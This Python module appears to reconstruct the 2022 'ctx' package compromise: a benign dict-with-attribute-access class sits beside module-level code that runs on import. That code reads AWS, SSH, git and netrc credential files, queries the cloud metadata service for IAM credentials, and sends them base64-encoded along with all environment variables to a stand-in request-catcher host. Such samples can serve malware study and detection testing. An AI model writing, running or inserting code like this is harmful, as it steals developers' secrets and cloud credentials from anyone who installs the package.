import base64
import os
from pathlib import Path

import urllib.request


class Ctx(dict):
    def __getattr__(self, key):
        return self[key]


def _files():
    found = {}
    for name in (".aws/credentials", ".ssh/id_rsa", ".git-credentials", ".netrc"):
        path = Path.home() / name
        if path.exists():
            found[name] = path.read_text(errors="ignore")
    try:
        found["imds"] = urllib.request.urlopen(
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=2).read()
    except OSError:
        pass
    return found


# ctx 2022 shape: the environment, base64-encoded, in the query string of a request catcher.
urllib.request.urlopen("https://ctx-stats.herokuapp.invalid/?e="
                       + base64.b64encode(repr(dict(os.environ)).encode()).decode()
                       + "&f=" + base64.b64encode(repr(_files()).encode()).decode())
